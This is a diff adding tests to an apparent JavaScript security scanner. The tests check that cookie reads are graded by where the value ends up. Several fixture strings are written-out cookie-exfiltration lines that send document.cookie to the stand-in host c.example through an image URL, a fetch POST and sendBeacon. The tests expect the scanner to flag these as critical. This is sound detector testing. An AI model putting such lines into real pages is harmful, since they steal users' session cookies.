@@ -173,6 +173,39 @@ def test_forwarding_wrapper_is_low_and_sending_wrapper_is_high() -> None:
     assert [f.severity for f in _rule(_findings(forwarding), "js-global-override")] == [
         Severity.LOW
     ]
-    assert [f.severity for f in _rule(_findings(sending), "js-global-override")] == [
-        Severity.HIGH
-    ]
+    assert [f.severity for f in _rule(_findings(sending), "js-global-override")] == [Severity.HIGH]
+
+
+def test_cookie_severity_follows_where_the_value_goes() -> None:
+    helper = """
+    function xsrf(name) {
+      var m = document.cookie.match(new RegExp('(^|;\\\\s*)(' + name + ')=([^;]*)'));
+      return m ? decodeURIComponent(m[3]) : null;
+    }
+    """
+    whole = "var jar = document.cookie; render(jar);"
+    direct = "new Image().src = 'https://c.example/p?c=' + encodeURIComponent(document.cookie);"
+    bound = """
+    function grab() {
+      var all = document.cookie;
+      fetch('https://c.example/in', { method: 'POST', body: all });
+    }
+    """
+    encoded = "var packed = btoa(document.cookie);"
+
+    def severity(source: str) -> list[Severity]:
+        return [f.severity for f in _rule(_findings(source), "js-cookie-access")]
+
+    assert severity(helper) == [Severity.LOW]
+    assert severity(whole) == [Severity.MEDIUM]
+    for theft in (direct, bound, encoded):
+        found = _rule(_findings(theft), "js-cookie-access")
+        assert [(f.severity, f.category) for f in found] == [
+            (Severity.CRITICAL, Category.EXFILTRATION)
+        ], theft
+
+
+def test_declared_cookies_do_not_excuse_sending_them_away() -> None:
+    direct = "navigator.sendBeacon('https://c.example/', document.cookie);"
+    found = _rule(_findings(direct, Capabilities(cookies=True)), "js-cookie-access")
+    assert [f.severity for f in found] == [Severity.CRITICAL]
